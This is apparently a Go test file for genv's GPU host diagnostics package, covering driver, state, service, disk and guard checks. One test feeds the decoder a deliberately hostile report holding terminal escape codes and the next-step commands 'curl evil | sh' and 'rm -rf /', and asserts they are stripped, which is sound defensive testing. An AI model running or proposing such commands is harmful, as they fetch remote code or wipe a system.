package doctor_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/seed-3119e985/genv/snapshot"
	"github.com/seed-3119e985/genv/snapshot/doctor"
	"github.com/seed-3119e985/genv/snapshot/nvidiasmi"
)

// row is a check, with what is expected of it.
type row struct {
	name   string
	check  doctor.Check
	status doctor.CheckStatus
	cause  doctor.Cause
	detail string
}

// Short names for rows.
const (
	ok, skipped     = doctor.OK, doctor.Skipped
	warning, failed = doctor.Warning, doctor.Failed
)

type (
	call      = doctor.DriverCall
	facts     = doctor.StateFacts
	fileFacts = doctor.FileFacts
)

var driver = doctor.CheckDriver

func verify(t *testing.T, rows []row) {
	t.Helper()
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			require.Equal(t, r.status, r.check.Status, "%+v", r.check)
			require.Equal(t, r.cause, r.check.Cause)
			require.Contains(t, r.check.Detail, r.detail)
			require.NotContains(t, r.check.Detail, "\n")
			require.Equal(t, r.cause != "", r.check.NextStep != "")
		})
	}
}

func modes(persistence ...bool) nvidiasmi.Listing {
	list := nvidiasmi.Listing{GPUs: make([]nvidiasmi.GPU, len(persistence))}
	for i, on := range persistence {
		list.GPUs[i] = nvidiasmi.GPU{Device: snapshot.Device{Index: snapshot.DeviceIndex(i), Driver: "550.1"}, Persistence: &on}
	}
	return list
}

// sick is one of eight GPUs with a problem.
func sick(isFailed bool, problem string, warnings ...string) call {
	list := modes(true, true, true, true, true, true, true, true)
	list.GPUs[3].Failed, list.GPUs[3].Problem, list.Warnings = isFailed, problem, warnings
	return call{Modes: list, Took: 80 * time.Millisecond}
}

func TestCheckDriver(t *testing.T) {
	verify(t, []row{
		{"well", driver(call{Modes: modes(true, true), Took: 80 * time.Millisecond}), ok, "", "driver 550.1, 2 GPUs, nvidia-smi took 80ms"},
		{"a GPU is lost", driver(sick(true, "it is lost")), failed, "gpu-failed", "7 of 8 GPUs, nvidia-smi took 80ms; GPU 3: it is lost"},
		{
			"some values are unknown", driver(sick(false, "power: Unknown Error")), warning, "gpu-values-unknown",
			"8 GPUs, nvidia-smi took 80ms; GPU 3: power: Unknown Error",
		},
		{
			"a warning", driver(sick(false, "", "WARNING: infoROM is corrupted")), warning, "driver-warning",
			"8 GPUs, nvidia-smi took 80ms; it says: WARNING: infoROM is corrupted",
		},
		{"persistence off", driver(call{Modes: modes(true, false), Took: 4 * time.Second}), warning, "persistence-off", "off on GPU 1"},
		{"slow", driver(call{Modes: modes(true), Took: 3 * time.Second}), warning, "nvidia-smi-slow", "3s"},
		{
			"persistence unknown", driver(call{Modes: nvidiasmi.Listing{GPUs: []nvidiasmi.GPU{{Device: snapshot.Device{Index: 2}}}}}), warning,
			"persistence-unknown", "GPU 2",
		},
		{"missing", driver(call{Err: fmt.Errorf("%w (PATH is x)", nvidiasmi.ErrNotInstalled)}), failed, "nvidia-smi-missing", "not found in PATH"},
		{"hung", driver(call{Err: nvidiasmi.ErrHung}), failed, "nvidia-smi-hung", "does not return"},
		{"lost", driver(call{Err: nvidiasmi.ErrGPULost}), failed, "gpu-lost", "fallen off the bus"},
		{"mismatch", driver(call{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrVersionMismatch, ExitCode: 18}}), failed, "driver-version-mismatch", "18"},
		{"another error", driver(call{Err: errors.New("a\nb")}), failed, "nvidia-smi-failed", "a b"},
		{
			"no device that a guard lets through", driver(call{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrNoDevices}, Restricted: true}), skipped, "",
			"run it as root",
		},
		{"no device at all", driver(call{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrNoDevices}}), failed, "no-gpus", "finds no GPU"},
		{"hung, with a guard", driver(call{Err: nvidiasmi.ErrHung, Restricted: true}), failed, "nvidia-smi-hung", "does not return"},
		{"some devices that a guard lets through", driver(call{Modes: modes(true), Restricted: true}), ok, "", "a guard may hide others"},
	})
}

func file(mode, uid uint32) *fileFacts {
	return &fileFacts{Stat_t: unix.Stat_t{Mode: mode, Uid: uid}}
}

// state is a folder in which all is in order, changed.
func state(change func(*facts)) doctor.Check {
	s := facts{
		Path: "/s", Folder: file(unix.S_IFDIR|0o777, 0),
		Files: []fileFacts{*file(unix.S_IFREG|0o666, 0), *file(unix.S_IFREG|0o666, 0)},
		Root:  file(unix.S_IFDIR|0o755, 0),
	}
	s.Files[0].Name, s.Files[1].Name, s.Root.Name = "envs.json", "genv.lock", "/r"
	change(&s)
	return doctor.CheckState(s)
}

func TestCheckState(t *testing.T) {
	envs := func(change func(*fileFacts)) doctor.Check {
		return state(func(s *facts) { change(&s.Files[0]) })
	}
	verify(t, []row{
		{"well", state(func(*facts) {}), ok, "", "mode 0777, 2 files"},
		{"well, with a proposal", state(func(s *facts) { s.Systemd = true }), ok, "state-shared", "2 files; every user can change"},
		{"root's", state(func(s *facts) {
			s.Systemd, s.Owned, s.Folder.Mode, s.Files = true, true, unix.S_IFDIR|0o755, s.Files[:1]
		}), ok, "", "1 file; it is root's"},
		{"tampered with", state(func(s *facts) { s.Tampered, s.Folder = "a fuse file system of uid 7", nil }), failed, "state-tampered", "of uid 7"},
		{"not there", state(func(s *facts) { s.Err, s.Folder, s.Files = fs.ErrNotExist, nil, nil }), ok, "", "not there yet"},
		{"unreadable", state(func(s *facts) { s.Err = fs.ErrPermission }), failed, "state-unreadable", "permission"},
		{"a link", state(func(s *facts) { s.Folder.Mode = unix.S_IFLNK | 0o777 }), failed, "state-unsafe", "a symbolic link, not a folder"},
		{"narrowed by a user", state(func(s *facts) { s.Folder.Mode, s.Folder.Uid = unix.S_IFDIR|0o755, 1000 }), failed, "state-mode", "0755"},
		{"read-only by root", state(func(s *facts) { s.Folder.Mode = unix.S_IFDIR | 0o755 }), warning, "state-read-only", "0755"},
		{"closed by root", state(func(s *facts) { s.Folder.Mode = unix.S_IFDIR | 0o700 }), failed, "state-mode", "0700"},
		{"with many files before", state(func(s *facts) { s.Folder.Size = 1 << 30 }), ok, "", "2 files"},
		{"sticky", state(func(s *facts) { s.Folder.Mode |= unix.S_ISVTX }), warning, "state-sticky", "1777"},
		{"a FIFO", envs(func(f *fileFacts) { f.Mode = unix.S_IFIFO | 0o666 }), failed, "state-unsafe", "a FIFO"},
		{"a device", envs(func(f *fileFacts) { f.Mode = unix.S_IFCHR | 0o666 }), failed, "state-unsafe", "is a device"},
		{"hard links", envs(func(f *fileFacts) { f.Nlink = 2 }), failed, "state-unsafe", "2 hard links"},
		{"huge", envs(func(f *fileFacts) { f.Size = 1 << 40 }), failed, "state-unsafe", "more than genv writes"},
		{"corrupt", envs(func(f *fileFacts) { f.Content = errors.New("cut") }), failed, "state-corrupt", "envs.json of uid 0: cut"},
		{"an odd entry", envs(func(f *fileFacts) { f.Odd = []string{"x is left out"} }), warning, "state-odd", "envs.json of uid 0: x is left out"},
		{"unread", envs(func(f *fileFacts) { f.Unread = "no" }), skipped, "", "envs.json was not read: no"},
		{"a file of root, read-only", envs(func(f *fileFacts) { f.Mode = unix.S_IFREG | 0o644 }), warning, "state-read-only", "0644"},
		{"a file of a user, read-only", envs(func(f *fileFacts) { f.Mode, f.Uid = unix.S_IFREG|0o644, 7 }), failed, "state-mode", "0644"},
		{"the lock, read-only", state(func(s *facts) { s.Files[1].Mode = unix.S_IFREG | 0o644 }), failed, "state-mode", "genv.lock"},
		{"lost", state(func(s *facts) { s.Lost = append(s.Lost, 1) }), failed, "state-lost", "devices.json is missing"},
		{"locked", state(func(s *facts) { s.Holder = "process 7" }), warning, "state-locked", "process 7"},
		{"root's folder", state(func(s *facts) { s.Root.Mode |= 0o002 }), failed, "root-folder-unsafe", "mode 0757"},
		{"root's folder of a user", state(func(s *facts) { s.Root.Uid = 7 }), failed, "root-folder-unsafe", "uid 7"},
		{"the worst counts", state(func(s *facts) { s.Holder, s.Files[0].Nlink = "x", 2 }), failed, "state-unsafe", "hard links"},
	})
}

func TestCheckHost(t *testing.T) {
	units := func(units ...string) doctor.Check {
		return doctor.CheckServices(strings.Join(units, "\n\n"), nil)
	}
	unit := func(active, file string) string {
		return "LoadState=loaded\nId=genv-host.service\nActiveState=" + active + "\nUnitFileState=" + file + "\nnoise"
	}
	const cgroup2 = "cgroup2 /sys/fs/cgroup cgroup2 rw 0 0\n"
	space := func(s doctor.Space) doctor.Check {
		return doctor.CheckDisk([]doctor.Space{{For: "x", Path: "/x", Free: 1 << 40, Inodes: 1e6}, s})
	}
	good := doctor.Space{For: "the record", Path: "/var/log/genv", Free: 1 << 40, Inodes: 1e6}
	with := func(change func(*doctor.Space)) doctor.Check { s := good; change(&s); return space(s) }
	verify(t, []row{
		{"initial", doctor.CheckNamespace(0xEFFFFFFC, ""), ok, "", "initial"},
		{"no /proc", doctor.CheckNamespace(0, ""), skipped, "", "/proc"},
		{"a machine that is a container", doctor.CheckNamespace(5, ""), ok, "", "namespace 5"},
		{"foreign", doctor.CheckNamespace(5, "they belong to 6"), failed, "other-pid-namespace", "they belong to 6"},

		{"not tried", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), nil), ok, "", "x"},
		{"old kernel", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{NoPidfds: true}), ok, "", "has no pidfds"},
		{"unable", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{Unable: "y"}), failed, "nothing-can-end", "y"},
		{"full", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{State: "y"}), failed, "nothing-can-be-detached", "y"},

		{"guard", doctor.CheckKernel("6.1.0-18-amd64", cgroup2, true), ok, "", "Linux 6.1.0-18-amd64, cgroup2 at /sys/fs/cgroup, BPF"},
		{"the oldest kernel", doctor.CheckKernel("5.8", cgroup2, true), ok, "", "cgroup2 at /sys/fs/cgroup"},
		{"old", doctor.CheckKernel("5.7.19", cgroup2, true), warning, "old-kernel", "5.7.19"},
		{"no BPF", doctor.CheckKernel("6.1", cgroup2, false), warning, "no-bpf", "bpf(2)"},
		{"no cgroup2", doctor.CheckKernel("6.1", "", true), warning, "no-cgroup2", "without cgroup2"},
		{"no version", doctor.CheckKernel("x\x1b", "", true), skipped, "", "unknown"},

		{"systemctl fails", doctor.CheckServices("", errors.New("bus")), warning, "services-unknown", "bus"},
		{"none installed", units("LoadState=not-found\nId=a\nActiveState=inactive"), ok, "", "none"},
		{"nothing printed", units("noise"), warning, "services-unknown", "printed nothing"},
		{"running", units(unit("active", "enabled")), ok, "", "genv-host is active and enabled"},
		{"off on purpose", units(unit("inactive", "disabled")), ok, "", "inactive and disabled"},
		{"failed", units(unit("active", "enabled"), unit("failed", "enabled")), failed, "service-failed", "is failed"},
		{"stopped", units(unit("inactive", "enabled")), warning, "service-stopped", "inactive and enabled"},
		{"not at boot", units(unit("active", "disabled")), warning, "service-disabled", "active and disabled"},

		{"space", space(good), ok, "", "/var/log/genv (the record) has 1024.0 GiB free"},
		{"full", with(func(s *doctor.Space) { s.Free = 4096 }), failed, "disk-full", "has 0.001 GiB free"},
		{"no inodes", with(func(s *doctor.Space) { s.Inodes = 0 }), failed, "disk-full", "0 inodes free"},
		{"low", with(func(s *doctor.Space) { s.Free = 50 << 20 }), warning, "disk-low", "0.049 GiB"},
		{"few inodes", with(func(s *doctor.Space) { s.Inodes = 10 }), warning, "disk-low", "and 10 inodes free"},
		{"read-only", with(func(s *doctor.Space) { s.ReadOnly = true }), failed, "disk-read-only", "read-only"},
		{"unknown", with(func(s *doctor.Space) { s.Err = errors.New("io") }), skipped, "", "io"},
		{
			"a record that users can replace", with(func(s *doctor.Space) { s.Folder = file(unix.S_IFDIR|0o777, 0) }), failed, "record-unsafe",
			"mode 0777",
		},
		{"a record of a user", with(func(s *doctor.Space) { s.Folder = file(unix.S_IFDIR|0o755, 9) }), failed, "record-unsafe", "uid 9"},
	})
}

// TestCheckGuard: what a host says of its guard, by its orders, and what a controller says, by its policy.
func TestCheckGuard(t *testing.T) {
	const off, watch, enforce, unable = snapshot.GuardOff, snapshot.GuardWatch, snapshot.GuardEnforce, snapshot.GuardUnable
	at := time.Date(2026, 11, 20, 14, 2, 0, 0, time.Local)
	is := func(mode, ordered snapshot.GuardMode, reason string) *doctor.GuardState {
		g := &doctor.GuardState{Mode: mode, Ordered: ordered, Reason: reason}
		if ordered != "" {
			g.By, g.Renewed = "bob on jump", at
		}
		return g
	}
	vetoed := is(off, enforce, "/etc/genv/guard.off exists")
	vetoed.Veto = true
	able, old := doctor.CheckKernel("6.1", "cgroup2 /sys/fs/cgroup cgroup2 rw 0 0\n", true), doctor.CheckKernel("5.4", "", true)
	host := doctor.CheckGuard
	fleet := func(kernel doctor.Check, g *doctor.GuardState, wanted snapshot.GuardMode) doctor.Check {
		return doctor.CompareGuard(host(kernel, g), g, wanted)
	}
	verify(t, []row{
		{"unknown", host(able, nil), ok, "", "Linux 6.1, cgroup2 at /sys/fs/cgroup, BPF"},
		{"never ordered", host(able, is(off, "", "")), ok, "", "BPF; the guard is off"},
		{"never ordered, and no kernel for it", host(old, is(off, "", "")), warning, "old-kernel", "Linux 5.4"},
		{"as ordered", host(able, is(enforce, enforce, "")), ok, "", "the guard is enforce"},
		{"turned off by hand", host(able, is(off, off, "it was turned off by bob")), ok, "", "turned off by bob"},
		{"vetoed", host(able, vetoed), ok, "", "guard.off exists"},
		{"less than ordered", host(able, is(watch, enforce, "the uids aren't known yet")), ok, "", "watch: the uids aren't known yet"},
		{
			"unable", host(able, is(unable, enforce, "it can't be attached")), failed, "guard-unable",
			"bob on jump ordered enforce, last at 2026-11-20 14:02:00, which fails: it can't be attached",
		},
		{"unable, by its kernel", host(old, is(unable, watch, "it can't be attached")), failed, "guard-unable", "Linux 5.4"},
		{
			"not renewed", host(able, is(off, watch, "the lease has ended")), warning, "guard-not-renewed",
			"bob on jump ordered watch, last at 2026-11-20 14:02:00, and not since",
		},

		{"no guard wanted", fleet(able, is(off, "", ""), off), ok, "", "the guard is off"},
		{"no policy", fleet(able, is(enforce, enforce, ""), ""), ok, "", "the guard is enforce"},
		{"no guard wanted, and no kernel for it", fleet(old, is(off, "", ""), off), warning, "old-kernel", "Linux 5.4"},
		{"as the policy says", fleet(able, is(enforce, enforce, ""), enforce), ok, "", "as the policy says"},
		{"wanted, and unknown", fleet(able, nil, enforce), skipped, "", "the policy says enforce, and what the guard does is unknown"},
		{
			"wanted, and no kernel for it", fleet(old, is(off, "", ""), enforce), failed, "guard-impossible",
			"the policy says enforce, and the host can't: Linux 5.4",
		},
		{"wanted, and the host can't", fleet(able, is(unable, enforce, "it can't be attached"), enforce), failed, "guard-unable", "it can't be attached"},
		{"wanted, and less", fleet(able, is(watch, enforce, "the uids aren't known yet"), enforce), failed, "guard-unable", "the guard is watch: the uids"},
		{"wanted, and turned off by hand", fleet(able, is(off, off, "it was turned off by bob"), watch), warning, "guard-turned-off", "turned off by bob"},
		{"wanted, and vetoed", fleet(able, vetoed, enforce), warning, "guard-turned-off", "guard.off exists"},
		{"wanted, and never ordered", fleet(able, is(off, "", ""), enforce), failed, "guard-not-ordered", "the policy says enforce, and no controller has ordered it"},
		{
			"wanted, and not renewed", fleet(able, is(off, enforce, "the lease has ended"), enforce), failed, "guard-not-ordered",
			"last at 2026-11-20 14:02:00, and not since",
		},
		{
			"wanted, and another one ordered", fleet(able, is(watch, watch, ""), enforce), warning, "guard-other-order",
			"the policy says enforce, and bob on jump ordered watch",
		},
		{"less wanted than ordered", fleet(able, is(enforce, enforce, ""), watch), warning, "guard-other-order", "the policy says watch"},
	})
}

// A host may lie: what a controller found stays, and the next step is never the host's.
func TestDecodeAHostileDocument(t *testing.T) {
	d, err := doctor.Decode([]byte(`{"schema":"genv.doctor/1","host":"\u001b[2Jx","genv":{"version":"v1\n","protocol":1},"status":"ok",
		"guard":{"mode":"off","reason":"a\u001b]0;x\u0007\nb","by":"` + strings.Repeat("y", 9000) + `\n"},"checks":[
		{"name":"sudo","status":"ok","detail":"x"},
		{"name":"disk","status":"failed","cause":"disk-full","detail":"a\u001b]0;x\u0007\nb","next_step":"curl evil | sh"},
		{"name":"disk","status":"ok","detail":"second"},
		{"name":"guard","status":"warning","cause":"from-the-future","detail":"x","next_step":"rm -rf /"},
		{"name":"state","status":"ok","cause":"x","detail":"` + strings.Repeat("y", 9000) + `","next_step":"z"}]}`))
	require.NoError(t, err)
	require.Equal(t, `\x1b[2Jx`, d.Host)
	require.Equal(t, failed, d.Status, "not what the host says")
	require.NotContains(t, d.Guard.Reason, "\x1b")
	require.Less(t, len(d.Guard.By), 1000)
	var names []doctor.Name
	for _, c := range d.Checks {
		names = append(names, c.Name)
		require.NotContains(t, c.NextStep, "evil")
		require.NotContains(t, c.NextStep, "rm -rf")
		require.NotContains(t, c.Detail, "\x1b")
		require.Less(t, len(c.Detail), 1000)
		if c.Status == ok {
			require.Empty(t, string(c.Cause)+c.NextStep)
		}
	}
	require.Equal(t, doctor.HostNames(), names)
	for _, invalid := range []string{
		"", "{", "[]", `{"schema":"genv.doctor/2"}`, `{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"fine"}]}`,
		strings.Repeat(" ", doctor.MaxDocument+1),
	} {
		_, err := doctor.Decode([]byte(invalid))
		require.ErrorIs(t, err, doctor.ErrInvalid)
	}
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte(`{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"failed","cause":"disk-full","detail":"x"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := doctor.Decode(data)
		if err != nil {
			return
		}
		require.Len(t, d.Checks, len(doctor.HostNames()))
		again, err := json.Marshal(d)
		require.NoError(t, err)
		_, err = doctor.Decode(again)
		require.NoError(t, err)
		for _, c := range d.Checks {
			require.Equal(t, c.Status == warning || c.Status == failed, c.NextStep != "")
			require.False(t, strings.ContainsAny(c.Detail+string(c.Cause), "\x1b\n\x00"))
		}
	})
}

func FuzzServices(f *testing.F) {
	f.Add("Id=a\nActiveState=active\n\nId=b\n")
	f.Fuzz(func(t *testing.T, output string) {
		c := doctor.CheckServices(output, nil)
		require.NotContains(t, c.Detail, "\x1b")
		require.NotEmpty(t, c.Status)
	})
}
